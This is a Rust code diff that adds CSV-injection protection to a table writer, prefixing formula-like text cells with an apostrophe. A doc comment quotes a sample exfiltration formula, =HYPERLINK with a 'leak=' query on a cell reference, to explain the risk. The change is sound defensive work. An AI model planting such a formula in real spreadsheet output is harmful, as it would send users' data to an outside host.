@@ -128,6 +128,7 @@ fn write_table<T: Table>(dir: &Path, rows: &[T], tz: &jiff::tz::TimeZone, csv: C
     if T::CSV_TEXT {
         df = T::to_frame(rows, &table::Target::csv(tz)).map_err(|e| ReportError::Polars(csv_path.clone(), e))?;
     }
+    neutralise_formulas(&mut df).map_err(|e| ReportError::Polars(csv_path.clone(), e))?;
     let mut text = Vec::new();
     CsvWriter::new(&mut text)
         .include_header(true)
@@ -142,6 +143,35 @@ fn write_table<T: Table>(dir: &Path, rows: &[T], tz: &jiff::tz::TimeZone, csv: C
             rows: rows.len(),
             sha256: crate::fsutil::sha256_bytes(&bytes),
         });
+    }
+    Ok(())
+}
+
+/// Whether a spreadsheet would read a cell as a formula: text starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return (OWASP, "CSV Injection").
+pub fn looks_like_formula(s: &str) -> bool {
+    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A cell as the CSV holds it: a formula-looking text gets a leading `'`, so Excel and
+/// LibreOffice show it as text instead of running it (an agent named
+/// `=HYPERLINK("http://…?leak="&B2)` would otherwise send the sheet's data away). Only text
+/// columns of the CSV files change; Parquet keeps the raw value.
+pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
+    if looks_like_formula(s) { format!("'{s}").into() } else { s.into() }
+}
+
+fn neutralise_formulas(df: &mut DataFrame) -> PolarsResult<()> {
+    let names: Vec<PlSmallStr> =
+        df.columns().iter().filter(|c| c.dtype() == &DataType::String).map(|c| c.name().clone()).collect();
+    for name in names {
+        let col = df.column(&name)?;
+        let ca = col.str()?;
+        if !ca.iter().flatten().any(looks_like_formula) {
+            continue;
+        }
+        let safe: StringChunked = ca.iter().map(|v| v.map(|s| csv_cell(s).into_owned())).collect();
+        df.replace(&name, safe.with_name(name.clone()).into_series().into_column())?;
     }
     Ok(())
 }
